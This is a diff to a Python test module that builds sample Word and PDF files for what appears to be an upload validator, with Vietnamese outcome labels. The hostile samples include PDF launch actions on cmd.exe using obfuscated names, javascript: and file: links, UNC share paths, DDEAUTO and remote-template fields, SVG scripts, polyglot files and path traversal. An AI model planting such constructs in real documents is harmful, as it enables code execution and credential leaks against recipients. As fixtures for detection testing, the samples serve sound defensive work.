@@ -193,6 +193,35 @@ def locked() -> bytes:
     return bytes(content)
 
 
+def streamed(content: str, more: str = "") -> str:
+    """An object of a PDF that is a stream."""
+    return f"<< /Length {len(content)} {more} >>\nstream\n{content}\nendstream"
+
+
+def drawing(markup: str) -> Any:
+    """A drawing of the older kind, whose attributes may name places themselves."""
+    line = (
+        f'<w:p><w:r><w:pict xmlns:v="urn:schemas-microsoft-com:vml">{markup}</w:pict></w:r></w:p>'
+    )
+    return {BODY: replacing("<w:sectPr", f"{line}<w:sectPr")}
+
+
+def stored_first(content: bytes) -> bytes:
+    """A Word file that begins with a part as it is, not packed."""
+    buffer = io.BytesIO()
+    with (
+        zipfile.ZipFile(io.BytesIO(word())) as old,
+        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as new,
+    ):
+        new.writestr("docProps/a.jpg", content, zipfile.ZIP_STORED)
+        for entry in old.infolist():
+            new.writestr(entry.filename, old.read(entry))
+    return buffer.getvalue()
+
+
+METADATA = '<?xpacket begin=""?>'
+GO_OUT = "<< /S /URI /URI (https://a.vn) >>"
+RELATIONS = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
 ENTITIES = '<!DOCTYPE x [<!ENTITY a "aaaaaaaa"><!ENTITY b "&a;&a;&a;">]>'
 JS = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
 OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 4096
@@ -225,6 +254,14 @@ def sound() -> Iterator[tuple[str, bytes]]:
     yield "tính.docx", repacked(sum_field)
     yield "số trang đơn.docx", repacked(simple_field(" PAGE "))
     yield "Biên bản “số 1”; ký.docx", word(lambda d: linked(d, "https://congdoan.vn/tin"))
+    first = "<< /S /GoTo /D [5 0 R /Fit] >>"
+    yield "trang đầu.pdf", pdf(catalog=f"/OpenAction 5 0 R /AA << /WC {first} >>", objects=(first,))
+    described = f"{METADATA}<x:xmpmeta><rdf:RDF><dc:title>Bien ban</dc:title></rdf:RDF></x:xmpmeta>"
+    yield "siêu dữ liệu.pdf", pdf(objects=(streamed(described),))
+    for place in ('\\l "_Toc12"', '"https://congdoan.vn/link"', '\\o "LINK: a" "mailto:a@b.vn"'):
+        yield "liên kết trường.docx", repacked(complex_field("<", f" HYPERLINK {place} ", "|", ">"))
+    drawn = '<v:shape href="https://congdoan.vn"><v:imagedata src="media/a.png"/></v:shape>'
+    yield "hình vẽ.docx", repacked(drawing(drawn))
 
 
 def hostile() -> Iterator[tuple[str, str, bytes, str]]:
@@ -260,6 +297,10 @@ def hostile() -> Iterator[tuple[str, str, bytes, str]]:
         ("a document within", "/OpenAction << /S /GoToE /T << >> >>"),
         ("data from outside", "/OpenAction << /S /ImportData /F (a.fdf) >>"),
         ("a sound", "/OpenAction << /S /Sound >>"),
+        ("an address on opening", "/OpenAction << /S /URI /URI (https://a.vn) >>"),
+        ("an address on closing", "/AA << /WC << /S /URI /URI (https://a.vn) >> >>"),
+        ("an address after a page", f"/OpenAction << /S /GoTo /D [] /Next {GO_OUT} >>"),
+        ("a script in three dimensions", "/X << /OnInstantiate 3 0 R >>"),
     ):
         yield f"PDF with {name}", "a.pdf", pdf(catalog=catalog), "tập lệnh"
     attached = "<< /Type /Annot /Subtype /FileAttachment /FS << /EF << /F 3 0 R >> >> >>"
@@ -268,6 +309,41 @@ def hostile() -> Iterator[tuple[str, str, bytes, str]]:
     yield "PDF with a film", "a.pdf", pdf(page=f"/Annots [{rich}]"), "tập lệnh"
     yield "PDF with a script nobody names", "a.pdf", pdf(objects=(JS,)), "tập lệnh"
     yield "PDF with a packed script", "a.pdf", in_object_stream(JS), "tập lệnh"
+    for name, catalog, objects in (
+        ("a program by a name elsewhere", "<< /S 5 0 R /F (cmd.exe) >>", ("/L#61unch",)),
+        ("an address elsewhere", "5 0 R", (GO_OUT,)),
+        ("an address by a name elsewhere", "5 0 R", ("<< /S 6 0 R /URI (x) >>", "/U#52I")),
+    ):
+        content = pdf(catalog=f"/OpenAction {catalog}", objects=objects)
+        yield f"PDF with {name}", "a.pdf", content, "tập lệnh"
+    for name, more in (
+        ("its words from outside", "/F (https://a.vn/a.txt)"),
+        ("a page of another file", "/Ref << /F (b.pdf) /Page 0 >>"),
+        ("a picture from a server", "/OPI << /2.0 << /F (a.tif) >> >>"),
+    ):
+        yield f"PDF with {name}", "a.pdf", pdf(objects=(streamed("", more),)), "bên ngoài"
+    for address in ("javascript:alert(1)", "file:///c:/cmd.exe", "\\\\\\\\10.0.0.1\\\\x"):
+        link = f"<< /Type /Annot /Subtype /Link /A << /S /URI /URI ({address}) >> >>"
+        yield (
+            f"PDF with a link to {address[:10]}",
+            "a.pdf",
+            pdf(page=f"/Annots [{link}]"),
+            "bên ngoài",
+        )
+    for name, content in (
+        ("a page in a remark", pdf(objects=("<< >>\n%<svg onload=alert(1)>",))),
+        ("a frame in its title", pdf(catalog="/X (<iframe src=//a.vn>)")),
+        ("a page after much else", pdf(objects=(streamed(" " * 9_000 + "<script>x()</script>"),))),
+        (
+            "a program for Windows' pages",
+            pdf(objects=(streamed(" " * 9_000 + "<hta:application>"),)),
+        ),
+        ("a page after its end", pdf() + HTML + b"\n%%EOF"),
+        ("an archive of another kind", pdf() + b"Rar!\x1a\x07\x00" + b"\x00" * 99 + b"%%EOF"),
+        ("a third kind of archive", pdf() + b"7z\xbc\xaf\x27\x1c" + b"\x00" * 99 + b"%%EOF"),
+        ("a program of a server", pdf(objects=(streamed(" " * 9_000 + "<?php x();"),))),
+    ):
+        yield f"PDF with {name}", "a.pdf", content, "hai loại"
     yield "PDF with a password", "a.pdf", with_password("mat-khau"), "mật khẩu"
     yield "PDF with an empty password", "a.pdf", with_password(""), "mật khẩu"
     yield "PDF without a page", "a.pdf", pdf(pages=0), "trang"
@@ -310,6 +386,30 @@ def hostile() -> Iterator[tuple[str, str, bytes, str]]:
     ):
         content = repacked(relation(kind, target))
         yield f"Word that loads {name}", "a.docx", content, "bên ngoài"
+    outside = relation("attachedTemplate", "https://a.vn/a.dotm")[RELS](b"<R></Relationships>")
+    template = {"word/_rels/settings.xml.rels": outside.replace(b"<R>", RELATIONS)}
+    yield "Word with a template by its settings", "a.docx", repacked(template), "bên ngoài"
+    for name, drawn in (
+        ("a drawn picture", '<v:imagedata src="https://a.vn/a.png"/>'),
+        ("a picture of a share", '<v:imagedata src="\\\\10.0.0.1\\x.png"/>'),
+        ("a drawn link to a script", '<v:shape href="javascript:alert(1)"/>'),
+    ):
+        yield f"Word with {name}", "a.docx", repacked(drawing(drawn)), "bên ngoài"
+    vector = '<svg xmlns="http://www.w3.org/2000/svg"><{}/></svg>'
+    for name, element, word_of_it in (
+        ("a picture that loads another", 'image href="https://a.vn/a.png"', "bên ngoài"),
+        ("a picture with a script", "script", "tập lệnh"),
+        ("a picture that acts", 'g onload="x()"', "tập lệnh"),
+    ):
+        content = repacked({"word/media/a.svg": vector.format(element)})
+        yield f"Word with {name}", "a.docx", content, word_of_it
+    for name, content in (("a program", b"MZ\x90"), ("a PDF", pdf()), ("an archive", word())):
+        renamed = repacked({"word/media/a.png": content})
+        yield f"Word with {name} named picture", "a.docx", renamed, "đối tượng"
+    yield "Word that is a PDF as well", "a.docx", stored_first(pdf()), "hai loại"
+    other_main = replacing('Target="word/document.xml"', 'Target="word/other.xml"')
+    parts = {"_rels/.rels": other_main, "word/other.xml": b"<other/>"}
+    yield "Word whose text is another part", "a.docx", repacked(parts), "hai loại"
     yield "Word that links an object", "a.docx", repacked(relation("oleObject", "x")), "đối tượng"
     for instruction in ("DDEAUTO c:\\cmd.exe", 'INCLUDEPICTURE "https://a.vn"', "DDE x y"):
         yield f"Word with {instruction[:8]}", "a.docx", repacked(field(instruction)), "tập lệnh"
@@ -320,6 +420,17 @@ def hostile() -> Iterator[tuple[str, str, bytes, str]]:
         ("a live field after another", complex_field("<", "PAGE", ">", "<", "LINK a b", ">")),
         ("a live field in another", complex_field("<", "TOC x ", "|", "<", "DDE a b", ">", ">")),
         ("a field that is computed", complex_field("<", "<", "QUOTE 68 68 69", ">", " a", ">")),
+        ("rows of a database", complex_field("<", ' DATABASE \\d "c:\\a.mdb" ', "|", ">")),
+        ("another document's contents", complex_field("<", ' RD "https://a.vn/a.docx" ', "|", ">")),
+        ("a file by an old word", complex_field("<", ' INCLUDE "c:\\a.txt" ', "|", ">")),
+        ("a picture by an old word", complex_field("<", " IMPORT c:\\a.png ", "|", ">")),
+        ("a button", complex_field("<", " MACROBUTTON AutoOpen Bấm ", ">")),
+        ("a link field to a script", complex_field("<", ' HYPERLINK "javascript:x" ', "|", ">")),
+        (
+            "a link field to a program",
+            complex_field("<", ' HYPERLINK \\o "a" "file:///c:/a" ', ">"),
+        ),
+        ("a simple link to a share", simple_field(" HYPERLINK \\\\10.0.0.1\\x ")),
         ("a field computed in part", complex_field("<", "DD", "<", "QUOTE E", ">", " a", ">")),
     ):
         yield f"Word with {name}", "a.docx", repacked(change), "tập lệnh"
@@ -334,6 +445,9 @@ def hostile() -> Iterator[tuple[str, str, bytes, str]]:
     many = {f"word/a{number}.xml": b"<a/>" for number in range(1_001)}
     yield "Word of a thousand parts", "a.docx", repacked(many), "bung ra"
     yield "Word with a path out", "a.docx", repacked({"../../a.xml": b"<a/>"}), "hỏng"
+    yield "Word with a path of Windows out", "a.docx", repacked({"..\\..\\a.xml": b"<a/>"}), "hỏng"
+    capital = repacked({"word/Document.xml": b"<a/>"})
+    yield "Word with a part twice but for a capital", "a.docx", capital, "hỏng"
     yield "Word with a part twice", "a.docx", twice(), "hỏng"
     for name, word_of_it in (
         ("a.pdf.exe", "Chọn"),
@@ -346,5 +460,9 @@ def hostile() -> Iterator[tuple[str, str, bytes, str]]:
         ("a.html.pdf", "hai đuôi"),
         ("a.docm.pdf", "hai đuôi"),
         ("a\u202efdp.exe.pdf", "hai đuôi"),
+        ("a.exe .pdf", "hai đuôi"),
+        ("a.url.pdf", "hai đuôi"),
+        ("a.pdf.", "Chọn"),
+        ("a.pdf::$DATA", "Chọn"),
     ):
         yield f"a sound PDF named {name!a}", name, pdf(), word_of_it
